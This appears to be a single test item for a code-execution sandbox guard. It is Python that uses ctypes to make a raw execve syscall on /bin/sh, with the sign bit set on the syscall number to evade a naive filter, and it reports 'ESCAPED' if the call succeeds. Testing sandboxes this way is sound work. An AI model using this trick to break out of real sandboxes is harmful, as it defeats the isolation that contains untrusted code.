# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: a number with its sign bit set
# machine: x86_64
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
answer = libc.syscall(0x8000003b, b'/bin/sh', 0, 0)
return "ESCAPED the call came back: %d, errno %d" % (answer, ctypes.get_errno())
